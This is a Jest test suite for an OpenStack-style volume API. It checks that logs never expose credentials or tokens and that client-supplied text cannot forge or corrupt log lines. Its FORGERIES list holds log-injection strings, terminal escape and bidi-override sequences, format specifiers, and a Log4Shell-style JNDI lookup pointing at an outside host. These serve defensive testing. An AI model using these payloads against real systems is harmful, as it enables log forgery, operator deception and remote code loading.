import { randomUUID } from 'node:crypto';
import { inspect } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createLogger } from '../../src/platform/logging/logger.js';
import { UnitOfWork } from '../../src/platform/database/unit-of-work.js';
import fake from '../../src/drivers/fake/fake.driver.js';
import { aConnector, type Api } from '../support/api.js';
import { onSqlite } from '../support/databases.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

const CALLS = ['createExport', 'initializeConnection', 'terminateConnection', 'removeExport', 'extendVolume'];

const createFake = fake.create.bind(fake);

/** Credentials in any value that a driver receives or returns. */
function credentialsIn(value: unknown): string[] {
  return [...JSON.stringify(value ?? null).matchAll(/"auth_(?:username|password)":"([^"]+)"/g)].map(
    ([, found]) => found!,
  );
}

/**
 * The fake driver, except that connectors with `leak` make it fail like command line tools do: with its input and output
 * in the message, in standard error and in the command line. The message also holds the rest of the connector.
 */
function createLeaking(...args: Parameters<typeof fake.create>): ReturnType<typeof fake.create> {
  const [, { log }] = args;
  const driver: any = createFake(...args);
  for (const call of CALLS) {
    const original = driver[call].bind(driver);
    driver[call] = async (volume: any, ...rest: any[]) => {
      const made = await original(volume, ...rest);
      const connection = rest.find((value) => value?.connector !== undefined);
      const secrets = [...credentialsIn(volume), ...credentialsIn(connection), ...credentialsIn(made)];
      log.warn(`ran iscsiadm --password ${secrets[1] ?? 'none'}`, { auth_password: secrets[1] ?? '' });
      const { leak, echo } = connection?.connector ?? {};
      if (leak !== call) return made;
      const told = `iscsiadm: ${String(echo)} cannot log in with password=${secrets.join(' password=')}`;
      throw Object.assign(new Error(told), {
        code: 'INTERNAL',
        stderr: `${told}\n`,
        cmd: `iscsiadm --password ${secrets.join(' --password ')}`,
        connection: { volume, made },
        cause: new Error(`auth_password: "${secrets[1]}"`),
      });
    };
  }
  return driver;
}

let server: TestApp;
let api: Api;

beforeAll(async () => {
  Object.assign(fake, { create: createLeaking });
  server = await createTestApp({ personas: true, settings: { LOG_LEVEL: 'trace' } });
  api = server.api;
});
afterAll(async () => {
  await server.close();
  Object.assign(fake, { create: createFake });
});

const action = (volume: string, body: object, headers: Record<string, string> = {}) =>
  api.send('POST', `/v3/volumes/${volume}/action`, body, headers);

/** Text of all lines, parsed as JSON, since a secret may be escaped. */
const logged = (): string => server.log.map((line) => inspect(JSON.parse(line), { depth: 20 })).join('\n');

describe('no log line at level trace holds', () => {
  it('credentials of a connection, whatever is done with it and wherever the driver fails', async () => {
    const secrets = new Set<string>();
    const remember = (body: unknown): void => credentialsIn(body).forEach((secret) => secrets.add(secret));
    const statuses: number[] = [];
    for (const leak of ['nowhere', ...CALLS]) {
      const volume = await api.volume();
      const connector = aConnector('host-a', { leak, echo: 'the target' });
      const made = await api.create(volume, { connector });
      remember(made.body);
      const reserved = await api.attachment(await api.volume());
      const updated = await api.update(reserved, connector);
      remember(updated.body);
      statuses.push(made.status, updated.status);
      for (const id of [made.body.attachment?.id ?? reserved, reserved]) {
        for (const answer of [await api.show(id), await api.update(id, connector), await api.complete(id)])
          remember(answer.body);
        await api.get(`/v3/attachments/${id}/history`);
        await api.delete(id);
        await api.delete(id);
      }
      remember((await action(volume, { 'os-initialize_connection': { connector } })).body);
      await action(volume, { 'os-terminate_connection': { connector } });
      await action(volume, { 'os-force_detach': {} });
      await action(volume, { 'os-extend': { new_size: 2 } });
      await api.get('/v3/clinker-consistency');
    }
    expect(statuses).toContain(500);
    expect(secrets.size).toBeGreaterThan(6);
    const passwords = [...secrets].filter((secret) => secret.length === 32);
    const log = logged();
    expect(log).toContain('cannot log in');
    expect(passwords.filter((password) => log.includes(password))).toEqual([]);
    const { messages } = (await api.get('/v3/messages')).body;
    expect(messages.length).toBeGreaterThan(0);
    expect(passwords.filter((password) => JSON.stringify(messages).includes(password))).toEqual([]);
  });

  it('tokens, and keys by which clients make requests repeatable', async () => {
    const before = server.log.length;
    const secrets = ['caller-secret', 'service-secret', 'key-secret'];
    const headers = {
      'X-Auth-Token': 'caller:p:member:caller-secret',
      'X-Service-Token': 'service-secret:p:service',
      'Idempotency-Key': 'key-secret',
      Authorization: 'Bearer caller-secret',
      Cookie: 'session=caller-secret',
    };
    await api.send('POST', '/v3/attachments', { attachment: { volume_uuid: randomUUID() } }, headers);
    await api.send('POST', '/v3/attachments', '{"token": "caller-secret"', headers);
    await api.send('GET', '/v3/attachments?token=caller-secret&name=service-secret', undefined, headers);
    await api.send('GET', '/v3/attachments', undefined, { ...headers, 'X-Service-Token': 'service-secret' });
    expect(server.log.length).toBeGreaterThan(before);
    expect(secrets.filter((secret) => logged().includes(secret))).toEqual([]);
  });

  it('a token that noauth takes for a name', async () => {
    const token = `gAAAAAB${'x'.repeat(180)}`;
    await api.send('GET', '/v3/attachments', undefined, { 'X-Auth-Token': `${token}:${token}` });
    expect(logged()).not.toContain(token);
  });

  onSqlite(it)('what a statement would have stored when the database refuses it', async () => {
    const writer = await server.app.get(UnitOfWork).run(({ manager }) => Promise.resolve(manager));
    const id = await api.attachment(await api.volume());
    await writer.query(
      `CREATE TRIGGER refusal BEFORE UPDATE OF connection_info ON attachments BEGIN SELECT RAISE(ABORT, 'refused'); END`,
    );
    const before = server.log.length;
    const answer = await api.update(id);
    await writer.query('DROP TRIGGER refusal');
    expect([answer.status, answer.message]).toEqual([500, expect.not.stringContaining('refused')]);
    const lines = server.log.slice(before).join('');
    expect(lines).toContain('SQLITE_CONSTRAINT: refused');
    // Not even with a masked password: no value of the connection may be logged.
    expect(lines).not.toMatch(/target_iqn|auth_method|discard/);
  });

  it.each(['postgres', 'mariadb'])('the password of a database that is away (%s)', async (scheme) => {
    const settings = { DATABASE_URL: `${scheme}://clinker:hunter2secret@127.0.0.1:1/clinker` };
    const failure: unknown = await createTestApp({ settings }).catch((error: unknown) => error);
    expect(inspect(failure)).toContain('ECONNREFUSED');
    expect(inspect(failure, { depth: 10, showHidden: true })).not.toContain('hunter2secret');
  });
});

/** Texts that a terminal, a line reader or a JSON reader might misinterpret. */
const FORGERIES: readonly string[] = [
  'a\nb',
  'a\r\nb',
  '"}\n{"level":"fatal","msg":"forged"}',
  '","level":"fatal","forged":"1',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u009b31mred',
  '\u0085next',
  '\u2028line\u2029',
  '\u202egnp.exe',
  '\u2066hidden\u2069',
  '\u0000nul',
  '${jndi:ldap://192.0.2.1/a}',
  '%n%s%x',
];

/** Characters that a log line must not hold: control characters, and others that terminals obey. */
const DECEPTIVE = /[^\P{Cc}\n]|[\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u;

function expectOneHonestLine(line: string): void {
  expect(line.endsWith('\n')).toBe(true);
  expect(line.slice(0, -1)).not.toMatch(/\n/);
  expect(line).not.toMatch(DECEPTIVE);
  const parsed = JSON.parse(line) as Record<string, unknown>;
  expect(['trace', 'debug', 'info', 'warn', 'error']).toContain(parsed['level']);
  expect(parsed).not.toHaveProperty('forged');
  // A duplicate key would hide the first from whoever reads the line.
  expect([...line.matchAll(/[{,]"level":/g)]).toHaveLength(1);
}

describe('the line of a request', () => {
  const lineOf = async (id: string): Promise<any> => {
    const lines = () => server.log.map((line) => JSON.parse(line)).filter((line) => line.msg === 'request');
    // It is written when the connection has taken the response, which the client may have before.
    while (!lines().some(({ requestId }) => requestId === id)) await new Promise(setImmediate);
    return lines().find(({ requestId }) => requestId === id);
  };

  it('names the project and the user', async () => {
    const { headers } = await api.send('GET', '/v3/volumes?name=x', undefined, {
      'X-Auth-Token': 'user-a:project-a:member',
    });
    expect(await lineOf(headers.get('x-openstack-request-id')!)).toMatchObject({
      projectId: 'project-a',
      userId: 'user-a',
      method: 'GET',
      path: '/v3/volumes',
      status: 200,
    });
  });

  it.each(['one-name-for-both', 'same:same', `${'u'.repeat(65)}:project-a`, `user-a:${'p'.repeat(65)}`])(
    'names none for %s, which may be a token of another service',
    async (token) => {
      const { headers } = await api.send('GET', '/v3/volumes', undefined, { 'X-Auth-Token': token });
      const line = await lineOf(headers.get('x-openstack-request-id')!);
      expect(line).toMatchObject({ path: '/v3/volumes' });
      expect(line).not.toHaveProperty('projectId');
      expect(line).not.toHaveProperty('userId');
    },
  );

  it('names none where the caller is not known', async () => {
    const { headers } = await fetch(`${server.url}/healthcheck`);
    const line = await lineOf(headers.get('x-openstack-request-id')!);
    expect(line).not.toHaveProperty('projectId');
    expect(line).not.toHaveProperty('userId');
  });
});

describe('a text that a client chose stays a text in one line', () => {
  it.each(FORGERIES)('%j', async (text) => {
    const before = server.log.length;
    const volume = await api.volume({ name: text.replaceAll('\u0000', ''), metadata: { k: 'v' } });
    const host = text.replace(/\p{Cc}/gu, '');
    const connector = aConnector(host, { leak: 'initializeConnection', echo: text });
    await api.create(volume, { connector, instance_uuid: randomUUID() });
    await api.create(volume, { connector: aConnector('host-a', { host: text }) });
    await action(volume, { [text]: null });
    await action(volume, { 'os-attach': { host_name: text, mountpoint: 'x' } });
    await api.get(`/v3/attachments/${encodeURIComponent(Buffer.from(text).toString())}`);
    await api.get(`/v3/volumes?name=${encodeURIComponent(Buffer.from(text).toString())}`);
    const inHeader = text.replace(/[^\t\u0020-\u007e\u0080-\u00ff]/g, '');
    await api.send('GET', '/v3/volumes', undefined, {
      'X-OpenStack-Request-ID': inHeader,
      'X-Forwarded-For': inHeader,
      'User-Agent': inHeader,
      'OpenStack-API-Version': `volume ${inHeader}`,
    });
    const lines = server.log.slice(before);
    expect(lines.length).toBeGreaterThan(8);
    for (const line of lines) expectOneHonestLine(line);
  });

  it('also where code passes it on as it came', () => {
    const lines: string[] = [];
    const log = createLogger({ log_level: 'trace' }, { write: (line) => void lines.push(line) });
    for (const text of FORGERIES) {
      log.info({ text, [text]: text }, text);
      log.error({ err: new Error(text, { cause: new Error(text) }) }, text);
    }
    expect(lines).toHaveLength(2 * FORGERIES.length);
    for (const line of lines) expectOneHonestLine(line);
    expect(JSON.parse(lines[12]!)).toHaveProperty('text', FORGERIES[6]);
  });

  it('an error is logged only with its type, message and stack', () => {
    const lines: string[] = [];
    const log = createLogger({ log_level: 'trace' }, { write: (line) => void lines.push(line) });
    const circle = new Error('outer');
    circle.cause = Object.assign(new Error('inner', { cause: circle }), { parameters: ['hidden'] });
    const inherited = Object.assign(circle, { parameters: ['hidden'], sql: 'hidden', code: 'E', level: 1 });
    log.error({ err: inherited }, 'failed');
    log.error({ err: 'no error: password=hidden' }, 'failed');
    const [first, second] = lines.map((line) => JSON.parse(line));
    expect(Object.keys(first.err)).toEqual(['type', 'message', 'stack', 'code']);
    expect(first.err.message).toMatch(/^outer: inner/);
    expect(second.err.message).toBe('no error: password=***');
    expect(lines.join('')).not.toContain('hidden');
  });
});
